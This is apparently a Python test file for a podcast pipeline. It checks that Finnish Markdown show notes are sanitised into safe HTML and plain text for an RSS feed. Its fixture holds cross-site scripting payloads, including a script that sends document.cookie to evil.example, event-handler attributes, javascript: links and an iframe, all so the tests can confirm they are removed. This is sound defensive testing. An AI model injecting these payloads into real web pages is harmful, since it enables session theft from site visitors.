"""Show notes: Markdown to sanitised HTML and plain text, and what of it reaches the feed."""

from __future__ import annotations

import dataclasses
import io
from html.parser import HTMLParser

import podcastparser

from media_pipeline.feeds.feed import build_feed, podcast_guid_for
from media_pipeline.text.notes import render_notes

from feed_support import AUDIO_FEED_URL, BASE, audio_feed_entries, audio_show

HOSTILE = """Tervetuloa jaksoon! Tässä **tärkeää** ja *korostettua*.

<script>document.location='https://evil.example/?c='+document.cookie</script>

<p onclick="steal()" onmouseover="steal()">Klikkaa tästä</p>

Linkit:

- [AuroraAI](https://example.fi/auroraai)
- [vaarallinen](javascript:alert('x'))
- <a href="javascript:alert(1)" onclick="alert(2)">toinen</a>
- <a href="JAVASCRIPT:alert(3)">kolmas</a>

1. ensimmäinen
2. toinen

<img src="x" onerror="alert(1)"> <iframe src="https://evil.example"></iframe>
"""


class _Elements(HTMLParser):
    """Every tag and attribute of an HTML fragment, read by the standard library's parser."""

    def __init__(self, fragment: str):
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str | None]] = []
        self.feed(fragment)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((tag, name, value) for name, value in attrs)


def _assert_safe(html: str) -> None:
    elements = _Elements(html)
    assert not {"script", "iframe", "img"} & set(elements.tags)
    assert not [a for a in elements.attrs if a[1].startswith("on")]
    assert not [a for a in elements.attrs if "javascript" in (a[2] or "").lower()]
    lowered = html.lower()
    assert "<script" not in lowered and "onclick" not in lowered and "javascript:" not in lowered
    assert "document.cookie" not in html  # a script's content goes with it


def test_hostile_notes_leave_the_feed_without_script_handlers_or_javascript_links():
    show = audio_show()
    entries = audio_feed_entries(show)
    entries[0] = dataclasses.replace(entries[0], episode=dataclasses.replace(entries[0].episode, notes=HOSTILE))
    xml = build_feed(show, entries, feed_url=AUDIO_FEED_URL, artwork_url=f"{BASE}/a.jpg",
                     podcast_guid=podcast_guid_for(AUDIO_FEED_URL))
    lowered = xml.decode("utf-8").lower()
    assert "<script" not in lowered and "onclick" not in lowered and "onmouseover" not in lowered
    assert "onerror" not in lowered and "javascript:" not in lowered and "document.cookie" not in lowered

    episode = next(e for e in podcastparser.parse(AUDIO_FEED_URL, io.BytesIO(xml))["episodes"]
                   if e["guid"] == entries[0].guid)
    html = episode["description_html"]
    _assert_safe(html)
    elements = _Elements(html)
    # ordinary links, lists and emphasis are kept
    assert ("a", "href", "https://example.fi/auroraai") in elements.attrs
    assert {"ul", "ol", "li", "strong", "em", "p"} <= set(elements.tags)
    assert "<strong>tärkeää</strong>" in html and "<em>korostettua</em>" in html
    # the words of a removed link stay, as text
    assert "vaarallinen" in html and "toinen" in html and "Klikkaa tästä" in html
    text = episode["description"]
    assert "AuroraAI (https://example.fi/auroraai)" in text
    assert "- vaarallinen" in text and "1. ensimmäinen" in text
    assert "javascript" not in text.lower() and "<" not in text


def test_markdown_elements_render_to_the_apple_subset():
    notes = render_notes("## Aiheet\n\nTeksti `koodi` ja<br>rivinvaihto.\n\n> lainaus\n\n"
                         "<div class=\"x\" style=\"color:red\"><span>sisältö</span></div>\n\n"
                         "[suhteellinen](/polku) [posti](mailto:info@example.fi) [data](data:text/html,x)\n")
    _assert_safe(notes.html)
    elements = _Elements(notes.html)
    assert {"h2", "code", "br", "blockquote"} <= set(elements.tags)
    assert not {"div", "span"} & set(elements.tags) and "sisältö" in notes.html
    assert not [a for a in elements.attrs if a[1] in ("class", "style")]
    hrefs = [a[2] for a in elements.attrs if a[1] == "href"]
    assert hrefs == ["mailto:info@example.fi"]  # relative and data: links are not links in a feed
    assert "suhteellinen" in notes.html and "data" in notes.html


def test_plain_text_keeps_structure():
    notes = render_notes("Eka kappale\njatkuu.\n\n- yksi\n- kaksi\n  - ala\n\n3. kolmas\n4. neljäs\n\n"
                         "Lisää: [sivu](https://example.fi/s) ja <https://example.fi/x> & muuta")
    assert notes.text == ("Eka kappale jatkuu.\n\n- yksi\n- kaksi\n  - ala\n\n3. kolmas\n4. neljäs\n\n"
                          "Lisää: sivu (https://example.fi/s) ja https://example.fi/x & muuta")


def test_empty_notes():
    assert render_notes("") == render_notes("   \n") == type(render_notes(""))(html="", text="")
